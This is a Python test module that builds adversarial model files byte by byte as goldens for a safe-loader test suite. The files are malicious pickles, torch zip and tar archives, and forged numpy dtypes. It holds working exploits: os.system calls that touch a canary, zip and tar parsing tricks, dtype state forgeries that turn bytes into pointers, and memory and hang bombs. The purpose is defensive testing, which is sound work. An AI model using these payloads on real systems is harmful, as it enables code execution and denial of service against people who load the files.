"""Adversarial goldens for tests/test_adversarial.py, built byte by byte (issue 10).

Each builder takes the canary path and returns the file's bytes. ``LIVE`` says how a naive
reader runs it: ``pickle`` (plain ``pickle.load``), ``torch`` (``torch.load(path,
weights_only=False)``); ``effect`` what proves it live: ``canary`` (the file appears), ``crash``
(the process dies of a signal or MemoryError under a memory limit), ``hang`` (still running at
the timeout), ``flags=63`` or ``itemsize=4`` (numpy took the forged dtype state) or ``error`` (not live: what is
tested is the words of the refusal).
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

MAGIC = 0x1950A86A20F9469CFC6C


def sbu(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def binunicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def sg(module: str, name: str) -> bytes:
    return sbu(module) + sbu(name) + b"\x93"


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def touch(canary: Path) -> str:
    return f"touch '{canary}'"


def os_system(canary: Path) -> bytes:
    return b"\x80\x02cos\nsystem\n" + binunicode(touch(canary)) + b"\x85R."


def legacy_stream(object_pickle: bytes) -> bytes:
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2}}
    head = pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + pickle.dumps(info, 2)
    return head + object_pickle + pickle.dumps([], 2)


def _torch_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def _benign_pkl() -> bytes:
    return pickle.dumps({"w": 1}, protocol=2)


def zip_case(canary: Path) -> bytes:
    """torch finds archive/data.pkl case-insensitively: the evil data.PKL is the one it loads."""
    return _torch_zip(
        {
            "archive/data.PKL": os_system(canary),
            "archive/x.pkl": _benign_pkl(),
            "archive/version": b"3\n",
            "archive/byteorder": b"little",
        }
    )


def zip_two_end_records(canary: Path) -> bytes:
    """A second end-of-central-directory record appended: readers may take either."""
    data = _torch_zip({"archive/data.pkl": os_system(canary), "archive/version": b"3\n"})
    eocd = data.rindex(b"PK\x05\x06")
    return data + data[eocd:]


def zip_overlap(canary: Path) -> bytes:
    """A third central directory entry pointing into data.pkl's bytes (overlapping entries)."""
    data = _torch_zip(
        {
            "archive/data.pkl": os_system(canary),
            "archive/version": b"3\n",
            "archive/zzzzzzzzzz": b"",
        }
    )
    first = zipfile.ZipFile(io.BytesIO(data)).infolist()[0]
    end = data.rindex(b"PK\x05\x06")
    cd = data.rindex(b"PK\x01\x02", 0, end)
    entry = bytearray(data[cd:end])
    entry[42:46] = struct.pack("<I", first.header_offset)  # the last entry re-pointed
    return data[:cd] + bytes(entry) + data[end:]


def lfb(payload_ops: bytes) -> bytes:
    """p4: torch.storage._load_from_bytes(<payload_ops pushes the argument>)."""
    return p4(sg("torch.storage", "_load_from_bytes") + payload_ops + b"\x85R")


def bytearray_mutated(canary: Path) -> bytes:
    """A benign bytearray payload, rewritten by SETITEM before _load_from_bytes gets it."""
    evil = legacy_stream(os_system(canary))
    benign = legacy_stream(pickle.dumps(1, 2)).ljust(len(evil), b"\x00")
    body = (
        sg("torch.storage", "_load_from_bytes")
        + b"\x96"
        + struct.pack("<Q", len(benign))
        + benign
        + b"\x94"  # BYTEARRAY8, MEMOIZE 1
        + sg("builtins", "slice")
        + b"K\x00"
        + b"J"
        + struct.pack("<i", len(evil))
        + b"\x86R"
        + binbytes(evil)
        + b"s"  # ba[0:len] = evil
        + b"\x85R"
    )
    return b"\x80\x05" + body + b"."


def tar_polyglot(canary: Path) -> bytes:
    """A legacy torch tar whose first member's name is itself a harmless pickle."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("\x80\x02K\x01.", b""), ("storages", os_system(canary))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def numpy_dtype_flags(canary: Path) -> bytes:
    """A plain 8-byte numpy dtype whose state BUILD sets to "holds object pointers" (flags 63):
    numpy accepts it, and arrays of it treat attacker bytes as pointers."""
    return p4(
        sg("numpy", "dtype")
        + sbu("V8")
        + b"\x89\x88\x87R"
        + b"(K\x03"
        + sbu("|")
        + b"NNNJ\x08\x00\x00\x00K\x01J\x3f\x00\x00\x00tb"
    )


def _structured_dtype(elsize: int, flags: int) -> bytes:
    """numpy's own protocol 4 pickle of the structured dtype ``[('a', 'i4'), ('b', 'i4')]``
    (item size 8, flags 16), with its state's item size and flags replaced."""
    import numpy as np

    data = pickle.dumps(np.dtype([("a", "i4"), ("b", "i4")]), protocol=4)
    own = b"K\x08K\x01K\x10t"
    assert data.count(own) == 1
    return data.replace(own, b"K" + bytes([elsize]) + b"K\x01K" + bytes([flags]) + b"t")


def numpy_structured_flags(canary: Path) -> bytes:
    """A structured dtype of two int32 fields whose state claims "holds object pointers"."""
    return _structured_dtype(8, 63)


def numpy_structured_itemsize(canary: Path) -> bytes:
    """A structured dtype whose item size (4) ends before its second field (bytes 4..8): numpy
    takes it, and every read of that field runs past the element."""
    return _structured_dtype(4, 16)


def _numpy_multiarray(data: bytes) -> bytes:
    """``data`` naming numpy's multiarray module as the installed numpy names it."""
    import numpy as np

    mod = (
        "numpy._core.multiarray"
        if int(np.__version__.split(".")[0]) >= 2
        else "numpy.core.multiarray"
    )
    return data.replace(sbu("numpy._core.multiarray"), sbu(mod))


#: (by a review) a fresh ``dtype('V8')`` D, memoized; an array of raw bytes b'AAAAAAAA' of D;
#: then D fetched back and BUILT with numpy's own state of ``[('f', 'O')]``: numpy changes D in
#: place, and the array reads its bytes as an object pointer.
DTYPE_IN_USE = b"\x80\x04]\x94\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02V8\x89\x88\x87R\x940\x8c\x16numpy._core.multiarray\x8c\x0c_reconstruct\x93\x8c\x05numpy\x8c\x07ndarray\x93K\x00\x85B\x01\x00\x00\x00b\x87R(K\x01K\x01\x85h\x01\x89B\x08\x00\x00\x00AAAAAAAAtbah\x01(K\x03\x8c\x01|N\x8c\x01f\x85}\x8c\x01f\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02O8\x89\x88\x87R(K\x03\x8c\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tbK\x00\x86sK\x08K\x01K\x1btb0."

#: the same, D a field of another structured dtype S that an array of raw bytes uses.
FIELD_DTYPE_IN_USE = b"\x80\x04]\x94\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02V8\x89\x88\x87R\x940\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02V8\x89\x88\x87R\x94(K\x03\x8c\x01|N\x8c\x01f\x85}\x8c\x01fh\x01K\x00\x86sK\x08K\x01K\x10tb0\x8c\x16numpy._core.multiarray\x8c\x0c_reconstruct\x93\x8c\x05numpy\x8c\x07ndarray\x93K\x00\x85B\x01\x00\x00\x00b\x87R(K\x01K\x01\x85h\x02\x89B\x08\x00\x00\x00AAAAAAAAtbah\x01(K\x03\x8c\x01|N\x8c\x01g\x85}\x8c\x01g\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02O8\x89\x88\x87R(K\x03\x8c\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tbK\x00\x86sK\x08K\x01K\x1btb0."


def numpy_dtype_in_use(canary: Path) -> bytes:
    return _numpy_multiarray(DTYPE_IN_USE)


def numpy_field_dtype_in_use(canary: Path) -> bytes:
    return _numpy_multiarray(FIELD_DTYPE_IN_USE)


def partial_project(canary: Path) -> bytes:
    """defaultdict(partial(tools.touch_file, canary)): a project function with an attacker
    argument, run when the comparison looks up a missing key."""
    return p4(
        sg("collections", "defaultdict")
        + sg("functools", "partial")
        + sg("tools", "touch_file")
        + sbu(str(canary))
        + b"\x86R"
        + b"\x85R"
    )


def project_call(canary: Path) -> bytes:
    """tools.touch_file(canary) called directly by REDUCE."""
    return p4(sg("tools", "touch_file") + sbu(str(canary)) + b"\x85R")


def memo_bomb(canary: Path) -> bytes:
    """LONG_BINPUT 2**31-1: the C unpickler sizes its memo to the index."""
    return b"\x80\x04K\x01r\xff\xff\xff\x7f."


def range_bomb(canary: Path) -> bytes:
    """set(range(10**10)): ten billion ints from a few bytes."""
    return p4(
        sg("builtins", "set")
        + sg("builtins", "range")
        + b"\x8a\x05"
        + (10**10).to_bytes(5, "little")
        + b"\x85R"
        + b"\x85R"
    )


def storage_bomb(canary: Path) -> bytes:
    """A nested storage declaring 2**40 floats over 4 bytes: torch allocates the declared size."""
    record = (
        b"\x80\x02(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000"
        b"X\x03\x00\x00\x00cpu\x8a\x06" + (2**40).to_bytes(6, "little") + b"Ntq\x00Q."
    )
    stream = legacy_stream(record)[: -len(pickle.dumps([], 2))] + pickle.dumps(["0"], 2)
    stream += struct.pack("<q", 2**40) + b"\x00" * 4
    return lfb(binbytes(stream))


def codec_quadratic(canary: Path) -> bytes:
    """_codecs.encode(text, 'punycode'): quadratic in the text."""
    text = "".join(chr(0x100 + i) for i in range(40_000))
    return p4(sg("_codecs", "encode") + binunicode(text) + sbu("punycode") + b"\x86R")


def persid(canary: Path) -> bytes:
    return b"\x80\x02X\x03\x00\x00\x00abcQ."


def next_buffer(canary: Path) -> bytes:
    return b"\x80\x05\x97."


def builtin_eval_p4(canary: Path) -> bytes:
    """__builtin__.eval at protocol 4: no name mapping; the module does not exist."""
    return p4(sg("__builtin__", "eval") + sbu(f"open({str(canary)!r}, 'w')") + b"\x85R")


def sentencepiece_dev_zero(canary: Path) -> bytes:
    """SentencePieceProcessor('/dev/zero'): reads forever."""
    return p4(sg("sentencepiece", "SentencePieceProcessor") + sbu("/dev/zero") + b"\x85R")


def torch_prefix_walk(canary: Path) -> bytes:
    """``torch.nn.functional`` + ``torch.os.system``: a "torch function" whose dotted name walks
    from the module to ``os.system``, then called."""
    return p4(sg("torch.nn.functional", "torch.os.system") + sbu(touch(canary)) + b"\x85R")


def planted_setstate(canary: Path) -> bytes:
    """An nn.Linear whose first BUILD plants ``__setstate__`` (a project function, only
    referenced), so that pickle's second BUILD calls it with the attacker's argument."""
    return p4(
        sg("torch.nn.modules.linear", "Linear")
        + b")\x81"
        + b"}"
        + sbu("__setstate__")
        + sg("tools", "touch_file")
        + b"sb"
        + sbu(str(canary))
        + b"b"
    )


#: label -> (builder, naive reader, effect)
PAYLOADS = {
    "zip member name case": (zip_case, "torch", "canary"),
    "zip two end records": (zip_two_end_records, "torch", "canary"),
    "zip overlapping entries": (zip_overlap, "torch", "canary"),
    "bytearray rewritten before _load_from_bytes": (bytearray_mutated, "pickle", "canary"),
    "tar polyglot": (tar_polyglot, "torch", "canary"),
    "numpy dtype flags via BUILD": (numpy_dtype_flags, "pickle", "flags=63"),
    "numpy structured dtype flags via BUILD": (numpy_structured_flags, "pickle", "flags=63"),
    "numpy dtype rebuilt while an array uses it": (numpy_dtype_in_use, "pickle", "crash"),
    "numpy field dtype rebuilt while an array uses it": (
        numpy_field_dtype_in_use,
        "pickle",
        "crash",
    ),
    "numpy structured dtype item size via BUILD": (
        numpy_structured_itemsize,
        "pickle",
        "itemsize=4",
    ),
    "functools.partial project function": (partial_project, "gadget", "canary"),
    "project function called by REDUCE": (project_call, "pickle", "canary"),
    "memo index bomb": (memo_bomb, "pickle", "crash"),
    "range bomb": (range_bomb, "pickle", "crash"),
    "storage size bomb": (storage_bomb, "pickle", "crash"),
    "quadratic codec": (codec_quadratic, "pickle", "hang"),
    "sentencepiece /dev/zero": (sentencepiece_dev_zero, "pickle", "crash"),
    "persistent id": (persid, "pickle", "error"),
    "out-of-band buffer": (next_buffer, "pickle", "error"),
    "__builtin__.eval at protocol 4": (builtin_eval_p4, "pickle", "error"),
    "torch function name walking to os.system": (torch_prefix_walk, "pickle", "canary"),
    "__setstate__ planted by BUILD": (planted_setstate, "pickle", "canary"),
}
